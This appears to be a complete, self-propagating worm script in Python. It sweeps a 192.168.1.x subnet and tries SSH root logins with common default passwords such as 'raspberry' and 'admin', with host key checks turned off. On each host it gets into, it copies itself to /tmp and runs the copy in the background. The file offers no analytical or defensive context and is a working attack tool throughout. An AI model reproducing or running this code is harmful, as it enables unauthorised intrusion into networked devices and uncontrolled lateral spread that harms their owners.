import asyncio, asyncssh
HOSTS = [f"192.168.1.{i}" for i in range(1, 255)]
async def spread(host):
    for pw in ("admin", "root", "1234", "raspberry"):
        try:
            async with asyncssh.connect(host, username="root", password=pw, known_hosts=None) as c:
                await asyncssh.scp(__file__, (c, "/tmp/u.py"))
                await c.run("nohup python3 /tmp/u.py &")
                return
        except Exception:
            pass
async def main():
    await asyncio.gather(*(spread(h) for h in HOSTS))
asyncio.run(main())
